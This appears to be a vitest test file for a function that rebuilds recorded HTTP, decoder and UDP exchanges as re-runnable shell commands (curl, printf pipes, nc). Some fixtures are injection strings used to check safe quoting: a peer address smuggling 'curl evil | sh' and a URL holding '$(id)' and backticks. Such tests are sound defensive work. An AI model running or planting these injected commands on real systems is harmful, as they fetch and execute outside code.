import {execFileSync} from 'node:child_process';
import {expect, test} from 'vitest';
import type {HttpExchangeRecord, TargetFacts, TesteeExchangeRecord} from '../../model/journal.ts';
import {anExchangeLine, anHttpRecord} from '../../test/support/journal-lines.ts';
import {repeatLine} from './repeat-line.ts';

const target: TargetFacts = {
  peer: {address: 'line:exec:./my-decoder --line', name: 'd', version: '1', encodes: true},
  livePeer: {address: 'udp://[::1]:4242'},
};
const request = (changes: Partial<HttpExchangeRecord['request']>) =>
  anExchangeLine({
    exchange: anHttpRecord({request: {method: 'GET', url: 'http://h/', headers: [], body: {kind: 'none'}, ...changes}}),
  });

test.each([
  [request({}), 'curl -sS -i -g --path-as-is http://h/'],
  [request({method: 'HEAD'}), 'curl -sS -i -g --path-as-is --head http://h/'],
  [request({url: 'http://h/a?q=[1]&x={y}'}), "curl -sS -i -g --path-as-is 'http://h/a?q=[1]&x={y}'"],
  [
    request({
      headers: [
        ['Authorization', 'token [redacted:TOUCHSTONE_TOKEN_ALICE]'],
        ['X-Request-Id', '1'],
        ['Host', 'h'],
      ],
    }),
    `curl -sS -i -g --path-as-is -H 'Authorization: token '"$TOUCHSTONE_TOKEN_ALICE" http://h/`,
  ],
  [
    request({headers: [['Authorization', 'Bearer [redacted:authorization]']]}),
    `curl -sS -i -g --path-as-is -H 'Authorization: Bearer '"$TOUCHSTONE_TOKEN_BOB" http://h/`,
  ],
  [
    request({headers: [['Authorization', 'Basic [redacted:TOUCHSTONE_PASSWORD_ALICE]']]}),
    `curl -sS -i -g --path-as-is -u "$TOUCHSTONE_USER_BOB:$TOUCHSTONE_PASSWORD_ALICE" http://h/`,
  ],
  [
    {...request({headers: [['Authorization', 'Basic [redacted:TOUCHSTONE_PASSWORD]']]}), actor: "ts-q'1"},
    `curl -sS -i -g --path-as-is -u 'ts-q'\\''1:'"$TOUCHSTONE_PASSWORD" http://h/`,
  ],
  [
    request({
      method: 'POST',
      headers: [['Content-Type', 'application/json']],
      body: {kind: 'text', text: `{"a":"it's"}`},
    }),
    `curl -sS -i -g --path-as-is -X POST -H 'Content-Type: application/json' --data-raw '{"a":"it'\\''s"}' http://h/`,
  ],
  [
    request({
      method: 'PUT',
      headers: [['X-Empty', '']],
      body: {kind: 'stored', sha256: 'a'.repeat(64), bytes: 9, isText: false, head: ''},
    }),
    `curl -sS -i -g --path-as-is -X PUT -H 'X-Empty;' -H Content-Type: --data-binary @bodies/${'a'.repeat(64)} http://h/`,
  ],
  [
    request({method: 'POST', body: {kind: 'text', text: 'a\0b'}}),
    `printf '\\141\\000\\142' | curl -sS -i -g --path-as-is -X POST -H Content-Type: --data-binary @- http://h/`,
  ],
])('%#: an HTTP exchange is repeated by curl', (line, shell) => {
  expect(repeatLine(line, target)).toBe(shell);
});

test('the decoder of the embedded reference has no address to be asked at', () => {
  const exchange = {kind: 'testee', question: 'decode', message: 'OverlayPing', form: 'binary', given: '0801'} as const;
  const line = anExchangeLine({exchange: {...exchange, answer: {kind: 'value', value: {}}} as TesteeExchangeRecord});
  const own: TargetFacts = {peer: {address: 'of the embedded reference', name: 'd', version: '1', encodes: true}};
  expect(repeatLine(line, own)).toBeUndefined();
  expect(repeatLine(line, {peer: {address: 'exec:./d', name: 'd', version: '1', encodes: true}})).toContain(
    '--peer exec:./d',
  );
});

test.each([
  ['.', 'bodies'],
  ['touchstone-results', 'touchstone-results/bodies'],
  ["it's out", `'@it'\\''s out/bodies`],
])('a long body is read from the folder of the journal (%s)', (folder, place) => {
  const body = {kind: 'stored', sha256: 'a'.repeat(64), bytes: 9, isText: false, head: ''} as const;
  expect(repeatLine(request({method: 'PUT', body}), target, `${folder}/results.jsonl`)).toContain(
    `--data-binary ${place.startsWith("'") ? '' : '@'}${place}/${'a'.repeat(64)}`,
  );
});

const asked = (changes: Partial<TesteeExchangeRecord>) =>
  anExchangeLine({
    exchange: {
      kind: 'testee',
      question: 'decode',
      message: 'OverlayPing',
      form: 'binary',
      given: '0801',
      answer: {kind: 'value'},
      ...changes,
    },
  });

test.each([
  [asked({}), "printf '%s\\n' 'touchstone 1' '1 decode OverlayPing 0801' | ./my-decoder --line"],
  [asked({given: ''}), "printf '%s\\n' 'touchstone 1' '1 decode OverlayPing -' | ./my-decoder --line"],
  [
    asked({question: 'encode', given: {Time: '1'}}),
    `printf '%s\\n' 'touchstone 1' '1 encode OverlayPing {"Time":"1"}' | ./my-decoder --line`,
  ],
  [asked({given: null}), undefined],
  [
    anExchangeLine({exchange: {kind: 'live', sent: '0802'}}),
    'printf %s 0802 | xxd -r -p | nc -u -w 2 ::1 4242 | xxd -p',
  ],
])('%#: an overlay exchange is repeated by a pipe', (line, shell) => {
  expect(repeatLine(line, target)).toBe(shell);
});

test('a command with shell characters in a journal is never printed as a command', () => {
  const peer = {address: 'line:exec:./d; curl evil | sh', name: 'd', version: '1', encodes: true};
  expect(repeatLine(asked({}), {peer})).toBe(
    `printf '%s\\n' 'touchstone 1' '1 decode OverlayPing 0801' | "$YOUR_DECODER"`,
  );
});

test('a decoder that speaks in frames is asked again by touchstone', () => {
  const peer = {address: "exec:./d; it's", name: 'd', version: '1', encodes: true};
  const line = asked({});
  expect(repeatLine(line, {peer})).toBe(
    `npx --no-install touchstone run --peer 'exec:./d; it'\\''s' --id ${line.case} --record all`,
  );
});

test('the line reaches a program word by word as the exchange had it', () => {
  const line =
    repeatLine(
      request({
        method: 'POST',
        url: "http://h/'$(id)`x`",
        body: {kind: 'text', text: '@file\n"\\'},
        headers: [['A', '!!']],
      }),
      target,
    ) ?? '';
  const printed = execFileSync('bash', ['-c', `curl() { printf '%s\\0' "$@"; }; ${line}`], {encoding: 'utf8'});
  expect(printed.split('\0')).toEqual([
    '-sS',
    '-i',
    '-g',
    '--path-as-is',
    '-X',
    'POST',
    '-H',
    'A: !!',
    '-H',
    'Content-Type:',
    '--data-raw',
    '@file\n"\\',
    "http://h/'$(id)`x`",
    '',
  ]);
});
